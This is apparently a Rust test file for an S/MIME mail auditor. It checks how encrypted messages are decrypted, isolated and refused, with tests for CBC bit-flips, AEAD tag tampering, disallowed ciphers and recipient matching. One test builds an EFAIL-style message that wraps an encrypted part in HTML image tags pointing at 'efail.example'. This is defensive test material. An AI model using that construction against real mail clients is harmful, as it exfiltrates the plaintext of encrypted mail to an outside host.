//! Rows C-01, C-03 to C-06, C-12, C-16, C-21 and C-22: encrypted mail, what can be said of it, and what is refused.

use mailseal::asn1::Reader;
use mailseal::asn1::Tag;
use mailseal::asn1::Writer;
use mailseal::asn1::oid;
use mailseal::cms;
use mailseal::cms::EntityIdentifier;
use mailseal::cms::IssuerAndSerial;
use mailseal::cms::Layer;
use mailseal::cms::Recipient;
use mailseal::cms::build;
use mailseal::crypto::content_cipher::CipherAlgorithm;
use mailseal::crypto::digest::DigestAlgorithm;
use mailseal::limits::Limits;
use mailseal::pki::x509::Certificate;

use CipherAlgorithm::{Aes128Cbc, Aes128Ccm, Aes256Cbc, Aes256Gcm, ChaCha20Poly1305};

use crate::catalogue::a_axes::content;
use crate::catalogue::a_axes::from_alice;
use crate::catalogue::audit::Audit;
use crate::catalogue::audit::Record;
use crate::toolkit::certificates::Holder;
use crate::toolkit::certificates::Party;
use crate::toolkit::certificates::Wanted;
use crate::toolkit::cms::BER;
use crate::toolkit::cms::read_algorithm;
use crate::toolkit::cms::signed_by;
use crate::toolkit::enveloped::Encrypt;
use crate::toolkit::enveloped::To;
use crate::toolkit::extensions;
use crate::toolkit::mail;
use crate::toolkit::people;
use crate::toolkit::people::alice;
use crate::toolkit::people::bob;
use crate::toolkit::people::carol;

/// A message around this CMS, audited with Carol's and Bob's keys.
fn audit(cms: &[u8]) -> Record {
    audit_entity(&mail::pkcs7_mime("enveloped-data", cms))
}

fn audit_entity(entity: &[u8]) -> Record {
    let message = mail::message(&from_alice(), entity);
    Audit::of(&[&message]).key(carol()).key(bob()).record()
}

fn encrypt(content: &[u8], cipher: CipherAlgorithm) -> Encrypt<'_> {
    Encrypt::new(content, cipher).to(To::new(carol()))
}

fn encrypted_part(content: &[u8]) -> Vec<u8> {
    mail::pkcs7_mime("enveloped-data", &encrypt(content, Aes256Cbc).encode())
}

/// No byte of a plaintext came out: neither its size nor its digest, and nothing inside was read.
fn assert_closed(record: &Record, decryption: &str) {
    assert_eq!(record.layer(0, "encrypted/decryption"), decryption);
    assert_eq!(record.text("/decryption"), decryption);
    assert_eq!(record.layers().len(), 1);
    let encrypted = record.0.pointer("/layers/0/encrypted").unwrap();
    for absent in ["plaintext_bytes", "plaintext_sha256", "integrity"] {
        assert_eq!(encrypted.get(absent), None, "{absent}");
    }
    assert_eq!(record.text("/content_sha256"), "");
}

#[test]
fn c_01_parts_around_an_encrypted_part_stay_apart() {
    let html = |text: &str| mail::entity("text/html", text.as_bytes());
    let body = mail::multipart(
        "mixed",
        "efail",
        &[
            &html("<img src=\"http://efail.example/"),
            &encrypted_part(&content()),
            &html("\">"),
        ],
    );
    let record = audit_entity(&body);
    assert_eq!(record.status(), "decrypted");
    assert_eq!(record.layers(), ["2 encrypted"]);
    assert_eq!(
        record.layer_notes(),
        ["integrity_none", "encrypted_subpart"]
    );
    // The plaintext is that of the part, and of nothing beside it.
    let alone = audit_entity(&encrypted_part(&content()));
    assert_eq!(alone.layer_notes(), ["integrity_none"]);
    let sha256 = |record: &Record| record.layer(0, "encrypted/plaintext_sha256").to_owned();
    assert_eq!(sha256(&record), sha256(&alone));

    let body = mail::multipart(
        "mixed",
        "several",
        &[
            &encrypted_part(&content()),
            &encrypted_part(b"\r\nsecond\r\n"),
        ],
    );
    let record = audit_entity(&body);
    assert_eq!(record.layers(), ["1 encrypted", "2 encrypted"]);
    assert_eq!(
        record.notes(),
        [
            "integrity_none@1",
            "encrypted_subpart@1",
            "integrity_none@2",
            "encrypted_subpart@2"
        ]
    );
}

#[test]
fn c_03_a_tampered_block_of_cbc() {
    let signed =
        mail::multipart_signed(&content(), &signed_by(alice(), &content(), people::sent()));
    for plain in [content(), signed] {
        let at = plain.windows(8).position(|w| w == b"Dear all").unwrap();
        let bit = 8 * at;
        let whole = audit(&encrypt(&plain, Aes256Cbc).encode());
        let record = audit(&encrypt(&plain, Aes256Cbc).flip_bit(bit).encode());
        assert_eq!(record.layer(0, "encrypted/decryption"), "decrypted");
        assert_eq!(record.layer(0, "encrypted/integrity"), "none");
        assert!(record.notes().contains(&"integrity_none@1".to_owned()));
        assert_ne!(
            record.layer(0, "encrypted/plaintext_sha256"),
            whole.layer(0, "encrypted/plaintext_sha256")
        );
        assert_ne!(record.status(), "valid");
    }
}

#[test]
fn c_04_a_signature_inside_vouches_for_cbc() {
    let with = |signature: Vec<u8>| {
        let entity = mail::multipart_signed(&content(), &signature);
        audit(&encrypt(&entity, Aes256Cbc).encode())
    };
    let good = with(signed_by(alice(), &content(), people::sent()));
    assert_eq!(good.layer(0, "encrypted/integrity"), "inner_signature");
    assert_eq!((good.status(), good.notes()), ("valid", vec![]));
    let other = with(signed_by(alice(), b"other", people::sent()));
    assert_eq!(other.layer(0, "encrypted/integrity"), "none");
    assert_eq!(other.status(), "altered");
    // The mathematics count, whoever signed: `integrity` says that nothing was changed since, the verdict says by whom.
    let stranger = Holder::root(
        Party::new("alice", "p256-2"),
        &Wanted::mail(1, "alice@example.com"),
    );
    let untrusted = with(signed_by(&stranger, &content(), people::sent()));
    assert_eq!(untrusted.layer(0, "encrypted/integrity"), "inner_signature");
    assert_eq!(untrusted.status(), "signer_untrusted");
    // A signed part beside another is not the outermost entity.
    let signed =
        mail::multipart_signed(&content(), &signed_by(alice(), &content(), people::sent()));
    let beside = mail::multipart("mixed", "outer", &[&signed, &mail::text("Pay Mallory.")]);
    let record = audit(&encrypt(&beside, Aes256Cbc).encode());
    assert_eq!(record.layer(0, "encrypted/integrity"), "none");
    assert_eq!(record.status(), "partly_signed");
}

#[test]
fn c_05_a_bad_tag_gives_nothing_out() {
    let text = content();
    for cipher in [Aes256Gcm, Aes128Ccm, ChaCha20Poly1305] {
        let good = audit(&encrypt(&text, cipher).encode());
        assert_eq!(good.layer(0, "encrypted/integrity"), "aead");
        for bit in [0, 8 * 40] {
            let record = audit(&encrypt(&text, cipher).flip_bit(bit).encode());
            assert_closed(&record, "failed");
            assert_eq!(record.status(), "decrypt_failed");
        }
        let der = encrypt(&text, cipher).encode();
        for length in [0, 4, 11, 12, 15, 17] {
            let record = audit(&with_tag(&der, length));
            assert_closed(&record, "failed");
        }
    }
}

/// The same with its tag cut or lengthened; the parameters still say 16.
fn with_tag(der: &[u8], length: usize) -> Vec<u8> {
    let limits = Limits::default();
    let info = cms::read(der, &limits).unwrap();
    let Layer::AuthEnveloped(data) = info.layer else {
        panic!("no AuthEnvelopedData")
    };
    let mut mac = data.mac.to_vec();
    mac.resize(length, 0);
    let ciphertext = data.content.ciphertext.unwrap().bytes().unwrap();
    build::AuthEnvelopedData::new(data.recipients, data.content.algorithm, &ciphertext, &mac)
        .encode()
}

#[test]
fn c_05_tag_lengths_out_of_bounds_are_refused() {
    let der = encrypt(&content(), Aes256Gcm).encode();
    let limits = Limits::default();
    let info = cms::read(&der, &limits).unwrap();
    let Layer::AuthEnveloped(data) = info.layer else {
        panic!("no AuthEnvelopedData")
    };
    let ciphertext = data.content.ciphertext.unwrap().bytes().unwrap();
    let mut parameters = data.content.algorithm.parameter_reader().unwrap();
    let nonce = parameters
        .sequence(|r| {
            let nonce = r.octet_string()?.bytes()?.into_owned();
            let _ = r.small_integer()?;
            Ok(nonce)
        })
        .unwrap();
    // A tag of 12 bytes is the whole tag cut short (SP 800-38D §5.2.1.2), and accepted.
    for (length, decryption, status) in [
        (4, "unsupported", "unsupported"),
        (8, "unsupported", "unsupported"),
        (11, "unsupported", "unsupported"),
        (12, "decrypted", "decrypted"),
        (16, "decrypted", "decrypted"),
        (17, "unsupported", "unsupported"),
    ] {
        let parameters = Writer::encode(|w| {
            w.sequence(|w| {
                w.octet_string(&nonce);
                w.small_integer(length);
            });
        });
        let algorithm = Writer::encode(|w| w.algorithm(oid::AES256_GCM, Some(&parameters)));
        let mut mac = data.mac.to_vec();
        mac.resize(length as usize, 0);
        let made = build::AuthEnvelopedData::new(
            data.recipients.clone(),
            read_algorithm(&algorithm),
            &ciphertext,
            &mac,
        );
        let record = audit(&made.encode());
        assert_eq!(record.status(), status, "{length}");
        if decryption == "decrypted" {
            assert_eq!(record.layer(0, "encrypted/integrity"), "aead");
        } else {
            assert_closed(&record, decryption);
        }
    }
}

#[test]
fn c_06_ciphers_in_the_wrong_container() {
    let limits = Limits::default();
    let der = encrypt(&content(), Aes256Gcm).encode();
    let Layer::AuthEnveloped(gcm) = cms::read(&der, &limits).unwrap().layer else {
        panic!("no AuthEnvelopedData")
    };
    let ciphertext = gcm.content.ciphertext.unwrap().bytes().unwrap();
    let tagged = [&ciphertext[..], &gcm.mac].concat();
    for octets in [&ciphertext[..], &tagged] {
        let algorithm = gcm.content.algorithm;
        let made = build::EnvelopedData::new(gcm.recipients.clone(), algorithm, octets);
        let record = audit(&made.encode());
        assert_closed(&record, "unsupported");
        assert_eq!(record.layer_notes(), ["cipher_not_allowed"]);
        assert_eq!(record.status(), "unsupported");
    }

    let der = encrypt(&content(), Aes256Cbc).encode();
    let Layer::Enveloped(cbc) = cms::read(&der, &limits).unwrap().layer else {
        panic!("no EnvelopedData")
    };
    let ciphertext = cbc.content.ciphertext.unwrap().bytes().unwrap();
    for mac in [&[0; 16][..], &[]] {
        let algorithm = cbc.content.algorithm;
        let recipients = cbc.recipients.clone();
        let made = build::AuthEnvelopedData::new(recipients, algorithm, &ciphertext, mac);
        let record = audit(&made.encode());
        assert_closed(&record, "unsupported");
        assert!(record.layer_notes().contains(&"cipher_not_allowed"));
    }

    // Modes that let anybody change single bits: in no container.
    for oid in [oid::AES256_OFB, oid::AES256_CFB] {
        let vector = Writer::encode(|w| w.octet_string(&[7; 16]));
        let algorithm = Writer::encode(|w| w.algorithm(oid, Some(&vector)));
        let algorithm = read_algorithm(&algorithm);
        let made = build::EnvelopedData::new(cbc.recipients.clone(), algorithm, &ciphertext);
        assert_closed(&audit(&made.encode()), "unsupported");
        let recipients = cbc.recipients.clone();
        let made = build::AuthEnvelopedData::new(recipients, algorithm, &ciphertext, &[0; 16]);
        assert_closed(&audit(&made.encode()), "unsupported");
    }
}

/// The recipients of a message, changed.
fn with_recipients(
    der: &[u8],
    change: impl for<'r> Fn(Vec<Recipient<'r>>) -> Vec<Recipient<'r>>,
) -> Vec<u8> {
    let limits = Limits::default();
    let info = cms::read(der, &limits).unwrap();
    let Layer::Enveloped(data) = info.layer else {
        panic!("no EnvelopedData")
    };
    let ciphertext = data.content.ciphertext.unwrap().bytes().unwrap();
    let recipients = change(data.recipients);
    build::EnvelopedData::new(recipients, data.content.algorithm, &ciphertext).encode()
}

#[test]
fn c_12_every_way_to_name_a_recipient() {
    let text = content();
    let own_identifier = Wanted::mail(1100, "erna@example.com")
        .with(extensions::subject_key_identifier(b"erna's own"));
    let own_identifier = people::issued("erna", "rsa2048-6", &own_identifier);
    let bare = people::issued(
        "bert",
        "rsa2048-6",
        &Wanted::mail(1101, "b@example.com").bare(),
    );
    let ec = people::person("erik", 1102, "p256-4");
    let x25519 = people::person("xenia", 1103, "x25519-1");
    for (what, holder, by_key, matched_by) in [
        ("issuer and serial", carol(), false, "issuer_serial"),
        ("key identifier", carol(), true, "ski"),
        ("key identifier, computed", &bare, true, "ski"),
        (
            "key identifier beside the extension's",
            &own_identifier,
            true,
            "ski",
        ),
        (
            "key agreement, issuer and serial",
            &ec,
            false,
            "issuer_serial",
        ),
        ("key agreement, rKeyId", &ec, true, "ski"),
        ("X25519, rKeyId", &x25519, true, "ski"),
    ] {
        let to = To::new(holder);
        let to = if by_key { to.by_key_identifier() } else { to };
        let der = Encrypt::new(&text, Aes128Cbc).to(to).encode();
        let message = mail::message(&from_alice(), &mail::pkcs7_mime("enveloped-data", &der));
        let record = Audit::of(&[&message]).key(holder).record();
        assert_eq!(record.status(), "decrypted", "{what}");
        assert_eq!(
            record.layer(0, "encrypted/matched_by"),
            matched_by,
            "{what}"
        );
    }
    // The extension's identifier, which is not that of the key.
    let der = Encrypt::new(&text, Aes128Cbc)
        .to(To::new(&own_identifier))
        .encode();
    let der = with_recipients(&der, |recipients| {
        let mut recipients = recipients;
        if let Recipient::KeyTransport(info) = &mut recipients[0] {
            info.version = 2;
            info.rid = EntityIdentifier::SubjectKeyIdentifier(b"erna's own".as_slice().into());
        }
        recipients
    });
    let message = mail::message(&from_alice(), &mail::pkcs7_mime("enveloped-data", &der));
    let record = Audit::of(&[&message]).key(&own_identifier).record();
    assert_eq!(
        (record.status(), record.layer(0, "encrypted/matched_by")),
        ("decrypted", "ski")
    );
}

#[test]
fn c_12_names_are_compared_as_names() {
    let certificate = Certificate::read(&carol().certificate).unwrap();
    let serial = certificate.serial;
    // "Sample Mail Authority", written otherwise.
    for (tag, text) in [
        (Tag::PRINTABLE_STRING, "Sample Mail Authority"),
        (Tag::UTF8_STRING, "SAMPLE mail  authority"),
        (Tag::PRINTABLE_STRING, " Sample Mail Authority "),
    ] {
        let issuer = Writer::encode(|w| {
            w.sequence(|w| {
                w.constructed(Tag::SET, |w| {
                    w.sequence(|w| {
                        w.oid(oid::COMMON_NAME);
                        w.primitive(tag, text.as_bytes());
                    });
                });
            });
        });
        let der = encrypt(&content(), Aes128Cbc).encode();
        let limits = Limits::default();
        let Layer::Enveloped(data) = cms::read(&der, &limits).unwrap().layer else {
            panic!("no EnvelopedData")
        };
        let ciphertext = data.content.ciphertext.unwrap().bytes().unwrap();
        let mut recipients = data.recipients.clone();
        let Recipient::KeyTransport(info) = &mut recipients[0] else {
            panic!("no key transport")
        };
        info.rid = EntityIdentifier::IssuerAndSerial(IssuerAndSerial {
            issuer: &issuer,
            serial,
        });
        let made = build::EnvelopedData::new(recipients, data.content.algorithm, &ciphertext);
        let record = audit(&made.encode());
        assert_eq!(record.status(), "decrypted", "{text}");
        assert_eq!(record.layer(0, "encrypted/matched_by"), "issuer_serial");
    }
}

#[test]
fn c_16_oaep_parameters_are_never_guessed() {
    let sha256 = DigestAlgorithm::Sha256;
    let text = content();
    let der = Encrypt::new(&text, Aes256Cbc)
        .to(To::new(carol()).oaep(sha256, sha256, b""))
        .encode();
    assert_eq!(audit(&der).status(), "decrypted");
    let v15 = encrypt(&text, Aes256Cbc).encode();
    let garbage = Writer::encode(|w| w.octet_string(b"no parameters"));
    let unknown_digest = Writer::encode(|w| {
        w.sequence(|w| w.explicit(0, |w| w.algorithm(oid::DATA, None)));
    });
    for (what, parameters) in [
        ("absent", None),
        ("NULL", Some(&[5, 0][..])),
        ("no sequence", Some(&garbage)),
        ("cut off", Some(&[0x30, 4, 0xa0, 9, 9, 9][..])),
        ("unknown digest", Some(&unknown_digest)),
    ] {
        let algorithm = Writer::encode(|w| w.algorithm(oid::RSAES_OAEP, parameters));
        for der in [&der, &v15] {
            let limits = Limits::default();
            let Layer::Enveloped(data) = cms::read(der, &limits).unwrap().layer else {
                panic!("no EnvelopedData")
            };
            let ciphertext = data.content.ciphertext.unwrap().bytes().unwrap();
            let mut recipients = data.recipients.clone();
            let Recipient::KeyTransport(info) = &mut recipients[0] else {
                panic!("no key transport")
            };
            info.algorithm = read_algorithm(&algorithm);
            let made = build::EnvelopedData::new(recipients, data.content.algorithm, &ciphertext);
            let record = audit(&made.encode());
            assert_closed(&record, "unsupported");
            assert_eq!(record.layer(0, "encrypted/recipients/0/kind"), "rsa_oaep");
            assert_eq!(
                record.layer(0, "encrypted/recipients/0/result"),
                "unsupported",
                "{what}"
            );
        }
    }
}

#[test]
fn c_21_mail_for_nobody_we_hold() {
    let text = content();
    let stranger = people::person("dave", 1200, "rsa2048-6");
    let der = Encrypt::new(&text, Aes256Cbc)
        .to(To::new(&stranger))
        .to(To::new(alice()).by_key_identifier())
        .encode();
    let record = audit(&der);
    assert_eq!(record.status(), "no_key");
    assert_closed(&record, "no_key");
    let recipients = record.0.pointer("/layers/0/encrypted/recipients").unwrap();
    // A SET is sorted: the shorter identifier first.
    let identifiers: Vec<(&str, bool, &str)> = recipients
        .as_array()
        .unwrap()
        .iter()
        .map(|recipient| {
            let text = |name: &str| recipient[name].as_str();
            let found = recipient["key_found"].as_bool().unwrap();
            let named = text("serial").or(text("ski")).unwrap();
            (named, found, text("result").unwrap())
        })
        .collect();
    let ski: String = alice()
        .party
        .key_identifier()
        .iter()
        .map(|octet| format!("{octet:02x}"))
        .collect();
    assert_eq!(identifiers.len(), 2);
    assert!(identifiers.contains(&("04b0", false, "no_key")));
    assert!(identifiers.contains(&(ski.as_str(), false, "no_key")));
}

#[test]
fn c_22_one_damaged_recipient_among_good_ones() {
    let der = encrypt(&content(), Aes256Cbc).encode();
    let broken: [&[u8]; 3] = [
        &[0x30, 3, 2, 1, 0], // KeyTransRecipientInfo, cut off behind its version
        &[0xa1, 2, 0x04, 0], // KeyAgreeRecipientInfo of nothing
        &[0xa9, 2, 5, 0],    // a choice that is none
    ];
    for raw in broken {
        for first in [true, false] {
            let limits = Limits::default();
            let Layer::Enveloped(data) = cms::read(&der, &limits).unwrap().layer else {
                panic!("no EnvelopedData")
            };
            let ciphertext = data.content.ciphertext.unwrap().bytes().unwrap();
            let element = Reader::new(raw).element().unwrap();
            let damaged = Recipient::read(&element, &limits).unwrap();
            assert!(matches!(damaged, Recipient::Damaged { .. }));
            let mut recipients = data.recipients.clone();
            recipients.insert(if first { 0 } else { 1 }, damaged);
            let made = build::EnvelopedData {
                form: BER, // keeps the order
                ..build::EnvelopedData::new(recipients, data.content.algorithm, &ciphertext)
            };
            let record = audit(&made.encode());
            assert_eq!(record.status(), "decrypted", "{raw:?}");
            assert!(
                record.layer_notes().contains(&"recipient_malformed"),
                "{raw:?}"
            );
        }
    }
    let none = with_recipients(&der, |_| Vec::new());
    let record = audit(&none);
    assert_eq!(
        (record.status(), record.structure()),
        ("damaged", "malformed")
    );
}
